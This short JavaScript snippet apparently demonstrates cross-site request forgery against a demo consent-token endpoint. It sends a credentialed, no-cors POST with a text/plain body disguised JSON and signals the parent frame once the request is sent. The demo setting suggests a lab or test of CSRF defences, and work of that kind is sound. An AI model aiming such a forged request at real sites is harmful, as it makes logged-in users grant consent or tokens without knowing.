// What a script of another site can do: send, without reading the answer.
const call = (side) =>
  fetch(`/demo/${side}/api/consent/token${location.search}`, {
    method: "POST", mode: "no-cors", credentials: "include",
    headers: { "Content-Type": "text/plain" }, body: '{"org_user_id":"ada"}',
  }).catch(() => {});
call(new URLSearchParams(location.search).get("side")).then(() => parent.postMessage("sent", "*"));
